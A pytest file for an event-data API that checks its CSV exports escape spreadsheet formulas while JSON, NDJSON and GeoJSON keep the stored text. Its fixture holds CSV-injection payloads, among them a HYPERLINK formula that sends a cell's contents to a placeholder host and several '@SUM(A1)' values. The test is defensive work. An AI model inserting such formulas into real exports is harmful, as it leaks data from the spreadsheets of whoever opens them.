"""CSV exports are safe to open in a spreadsheet (OWASP's CSV injection advice): a text cell
beginning with =, +, -, @, a tab or a carriage return gets a leading ', numbers do not; JSON,
NDJSON and GeoJSON keep the text as stored; an exported ACLED CSV imports back as that text."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from app.core.tables import event_table
from app.ops.cli import main
from tests.conftest import WRITE
from tests.payloads import offensive

FORMULA = '=HYPERLINK("http://x/?"&A1,"click")'
# The API strips leading whitespace from what it is sent; a record written by other means (an
# older version, another tool, the database itself) can still begin with a tab or a CR.
CR_PROVINCE = "\rCR province"
TAB_DISTRICT = "\tTab district"


def record() -> dict[str, Any]:
    return offensive(
        country="PER",
        province="Lima",
        district="Lima",
        location="-5",
        latitude=-12.05,
        longitude=-77.04,
        geo_precision="near",
        summary=FORMULA,
        actors=[
            {"name": "+1 Brigade", "role": "initiator"},
            {"name": "-2 Battalion", "role": "target"},
        ],
        fatalities={"value": 3, "qualifier": "exact", "claimed_by": "@SUM(A1)"},
        sources=[{"publisher": "@SUM(A1)", "title": "+1 for the record", "quote": "-2 posts."}],
    )


def store(client: TestClient) -> int:
    """The record above, with a CR before its province and a tab before its district."""
    response = client.post("/v1/events", json=record(), headers=WRITE)
    assert response.status_code == 201, response.text
    event_id: int = response.json()["id"]
    with client.app.state.engine.begin() as connection:  # type: ignore[attr-defined]
        connection.execute(
            sa.update(event_table)
            .where(event_table.c.id == event_id)
            .values(province=CR_PROVINCE, district=TAB_DISTRICT)
        )
    return event_id


@pytest.fixture
def stored(empty_client: TestClient) -> tuple[TestClient, int]:
    return empty_client, store(empty_client)


# Our CSV's text cells, as a spreadsheet-safe CSV must write them.
SAFE_CELLS = {
    "summary": "'" + FORMULA,
    "province": "'" + CR_PROVINCE,
    "district": "'" + TAB_DISTRICT,
    "location": "'-5",  # text, even if it reads like a number
    "actors": "'+1 Brigade; -2 Battalion",
    "initiators": "'+1 Brigade",
    "targets": "'-2 Battalion",
    "fatalities_claimed_by": "'@SUM(A1)",
    "sources": "'@SUM(A1)",
    "source_titles": "'+1 for the record",
    "source_quotes": "'-2 posts.",
}
# The same record's text as stored, which JSON, NDJSON and GeoJSON give.
STORED_CELLS = {name: cell[1:] for name, cell in SAFE_CELLS.items()}


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    ("path", "accept"),
    [
        ("/v1/events.csv", "*/*"),
        ("/v1/events.csv?hxl=true", "*/*"),
        ("/v1/events", "text/csv"),
    ],
)
def test_our_csv_neutralises_formulas_and_leaves_numbers_alone(
    stored: tuple[TestClient, int], path: str, accept: str
) -> None:
    client, event_id = stored
    response = client.get(path, headers={"Accept": accept})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = csv_rows(response.text)
    header, data = rows[0], rows[1:]
    if "hxl" in path:
        hashtags, data = data[0], data[1:]
        assert hashtags[:3] == ["#event+id", "#event+type", "#date+occurred"]  # as it was
        assert all(tag.startswith("#") for tag in hashtags)
    assert len(data) == 1
    row = dict(zip(header, data[0], strict=True))
    assert {name: row[name] for name in SAFE_CELLS} == SAFE_CELLS
    # Numbers are untouched, a negative coordinate included; so is text that is not a trigger.
    assert (row["id"], row["fatalities"], row["version"]) == (str(event_id), "3", "1")
    assert (row["latitude"], row["longitude"]) == ("-12.05", "-77.04")
    assert (row["kind"], row["country"], row["date"]) == ("offensive", "PER", "2021-06-10")
    assert (row["outcome"], row["fatalities_qualifier"]) == ("repelled", "exact")


@pytest.mark.parametrize("limit", ["0", "10"])  # streamed, and a page
def test_acled_csv_neutralises_formulas_and_leaves_numbers_alone(
    stored: tuple[TestClient, int], limit: str
) -> None:
    client, event_id = stored
    response = client.get(f"/api/acled/read?_format=csv&limit={limit}")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    header, *data = csv_rows(response.text)
    assert len(data) == 1
    row = dict(zip(header, data[0], strict=True))
    assert {
        name: row[name]
        for name in ("notes", "admin1", "admin2", "location", "actor1", "actor2", "source")
    } == {
        "notes": "'" + FORMULA,
        "admin1": "'" + CR_PROVINCE,
        "admin2": "'" + TAB_DISTRICT,
        "location": "'-5",
        "actor1": "'+1 Brigade",
        "actor2": "'-2 Battalion",
        "source": "'@SUM(A1)",
    }
    assert (row["event_id_cnty"], row["country"]) == (f"PER{event_id}", "Peru")
    assert (row["latitude"], row["longitude"]) == ("-12.05", "-77.04")
    assert (row["fatalities"], row["year"], row["iso"]) == ("3", "2021", "604")
    assert row["timestamp"].isdigit()


def stored_text(item: dict[str, Any]) -> dict[str, Any]:
    """The fields of a record (as /v1/events gives it) that the CSV has as SAFE_CELLS."""
    return {
        "summary": item["summary"],
        "province": item["province"],
        "district": item["district"],
        "location": item["location"],
        "actors": [a["name"] for a in item["actors"]],
        "fatalities_claimed_by": item["fatalities"]["claimed_by"],
        "sources": [(s["publisher"], s["title"], s["quote"]) for s in item["sources"]],
    }


AS_STORED = {
    "summary": FORMULA,
    "province": CR_PROVINCE,
    "district": TAB_DISTRICT,
    "location": "-5",
    "actors": ["+1 Brigade", "-2 Battalion"],
    "fatalities_claimed_by": "@SUM(A1)",
    "sources": [("@SUM(A1)", "+1 for the record", "-2 posts.")],
}


def test_json_ndjson_and_geojson_keep_the_text_as_stored(stored: tuple[TestClient, int]) -> None:
    client, event_id = stored
    listed = client.get("/v1/events").json()["items"]
    assert [i["id"] for i in listed] == [event_id]
    assert stored_text(listed[0]) == AS_STORED
    single = stored_text(client.get(f"/v1/events/{event_id}").json())
    # One record goes through the API's model again, which strips leading whitespace.
    assert single == AS_STORED | {"province": "CR province", "district": "Tab district"}

    ndjson = client.get("/v1/events.ndjson")
    assert ndjson.status_code == 200
    lines = [json.loads(line) for line in ndjson.text.split("\n") if line]
    assert [stored_text(line) for line in lines] == [AS_STORED]

    geojson = client.get("/v1/events.geojson")
    assert geojson.status_code == 200
    (feature,) = geojson.json()["features"]
    assert feature["geometry"]["coordinates"] == [-77.04, -12.05]
    assert {name: feature["properties"][name] for name in STORED_CELLS} == STORED_CELLS


def test_an_exported_acled_csv_imports_back_as_the_stored_text(
    cli: Path, client: TestClient
) -> None:
    store(client)
    exported = client.get("/api/acled/read?_format=csv&limit=0&country=Peru")
    assert exported.status_code == 200
    assert "'=HYPERLINK" in exported.text
    path = cli / "acled-export.csv"
    path.write_bytes(exported.content)
    assert main(["import", "--format", "acled", "--dataset", "copy", str(path)]) == 0
    (copy,) = client.get("/v1/events?dataset=copy").json()["items"]
    assert copy["summary"] == FORMULA
    assert copy["location"] == "-5"
    assert {a["name"] for a in copy["actors"]} == {"+1 Brigade", "-2 Battalion"}
    assert "@SUM(A1)" in [s["publisher"] for s in copy["sources"]]
    # What the API itself would have kept of a leading tab or CR: the text without it.
    assert (copy["province"], copy["district"]) == ("CR province", "Tab district")
